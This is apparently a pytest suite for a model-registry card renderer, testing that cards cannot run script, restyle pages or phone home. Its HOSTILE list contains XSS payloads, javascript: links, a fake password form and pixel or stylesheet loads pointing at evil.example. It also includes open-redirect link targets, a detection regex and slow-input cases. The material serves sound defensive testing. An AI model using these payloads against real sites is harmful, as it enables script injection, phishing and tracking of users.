"""Model cards are author content: they must not script, restyle or phone home."""

import re
import time

import pytest

from registry.views.card import render_card

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=https://evil.example/pixel.png onerror=alert(1)>",
    '<img src="https://evil.example/a.png" alt="\\"><script>alert(1)</script>">',
    "![x](https://evil.example/pixel.png)",
    '![x" onerror="alert(1)](https://evil.example/pixel.png)',
    "<picture><source srcset=https://evil.example/a.png></picture>",
    "<svg onload=alert(1)><image href=https://evil.example/a.png /><style>*{display:none}</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<style>@import url(https://evil.example/a.css)</style>",
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<div style="background:url(https://evil.example/a.png);position:fixed;inset:0">cover</div>',
    '<div class="notice btn--main" id="main" data-live="/x" hidden popover>dressed up</div>',
    '<a href="javascript:alert(1)">x</a> <a href="JaVa\tScRiPt:alert(1)">y</a>',
    "[x](javascript:alert(1)) [y](data:text/html;base64,PHNjcmlwdD4=) [z](vbscript:x)",
    '<a href="&#106;avascript:alert(1)">x</a>',
    "<iframe src=https://evil.example></iframe><object data=x></object><embed src=x>",
    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    "<base href=https://evil.example/>",
    "<video src=https://evil.example/a.mp4 autoplay></video><audio src=https://evil.example/a.mp3></audio>",
    '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
    "<template><img src=https://evil.example/x></template><noscript><img src=https://evil.example/x></noscript>",
    '<a href="https://ok.example" target="_blank" ping="https://evil.example">x</a>',
    "<!--><script>alert(1)</script>-->",
    "<plaintext><script>alert(1)</script>",
    "</div></div></main><script>alert(1)</script>",
]
FETCHES = re.compile(
    r"<(script|img|image|picture|source|svg|math|style|link|meta|iframe|object|embed|form|input|button|base|video|audio"
    r"|template|noscript|plaintext)\b|\s(on\w+|style|class|id|src|srcset|ping|target|data-\w+|hidden|popover)\s*=",
    re.IGNORECASE,
)
OURS = re.compile(r'<div class="scroll-x"[^>]*>|<table class="table">')


@pytest.mark.parametrize("card", HOSTILE)
def test_no_card_can_script_restyle_or_phone_home(card: str) -> None:
    shown = OURS.sub("", render_card(f"Before\n\n{card}\n\nAfter **all**", "/a/b", "/a/b/blob/main"))
    tags = " ".join(re.findall(r"<[^>]*>", shown))
    assert not FETCHES.search(tags), shown
    assert not re.search(r'href="(?!https?:|mailto:|/)', shown), shown
    assert "javascript:" not in " ".join(re.findall(r'href="[^"]*"', shown)).lower()


def test_all_of_them_at_once_leave_nothing_open() -> None:
    shown = render_card("\n\n".join(HOSTILE), "/a/b", "/a/b/blob/main")
    for tag in ("div", "details", "table", "p"):
        assert len(re.findall(f"<{tag}[ >]", shown)) == shown.count(f"</{tag}>"), tag


def test_what_a_card_is_for_survives() -> None:
    shown = render_card(
        "# Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- x\n- y\n\n`code` ~~old~~\n\n```\nif a < b:\n```\n",
        "/a/b",
        "/a/b/blob/main",
    )
    for expected in (
        "<h3>Title</h3>",
        "<td>1</td>",
        "<li>x</li>",
        "<code>code</code>",
        "<s>old</s>",
        "if a &lt; b:",
    ):
        assert expected in shown


def test_links_inside_the_repo_lead_to_its_files() -> None:
    shown = render_card(
        "[a](LICENSE) [b](./docs/x y.md) [c](../../../etc) [d](/other/repo)", "/a/b", "/a/b/blob/v1"
    )
    assert 'href="/a/b/blob/v1/LICENSE"' in shown
    assert 'href="/a/b"' in shown or "../" not in shown
    assert 'href="/other/repo"' in shown


@pytest.mark.parametrize(
    "target", ["//evil.example/x", "/\\evil.example", "\\\\evil.example", "/\t/evil.example", "#main"]
)
def test_a_link_cannot_leave_in_disguise(target: str) -> None:
    shown = render_card(f'<a href="{target}">x</a>', "/a/b", "/a/b/blob/main")
    assert "href" not in shown, shown


def test_links_tell_nobody_where_they_were_followed() -> None:
    assert 'rel="nofollow noopener noreferrer ugc"' in render_card("[a](https://ok.example)", "/a/b", "/x")


def test_images_are_told_in_words() -> None:
    assert "[image: A chart]" in render_card("![A chart](chart.png)", "/a/b", "/x")
    assert "[image: A chart]" in render_card('<img src="chart.png" alt="A chart">', "/a/b", "/x")


@pytest.mark.parametrize(
    "unit", ["[", "> ", "* ", "<div>", "![](", "`", "**a ", "| a |\n|---|\n", "<a href='"]
)
def test_a_card_made_to_be_slow_is_not(unit: str) -> None:
    started = time.process_time()
    render_card(unit * 60_000, "/a/b", "/x")
    assert time.process_time() - started < 3, "a page must not be held up by its author"
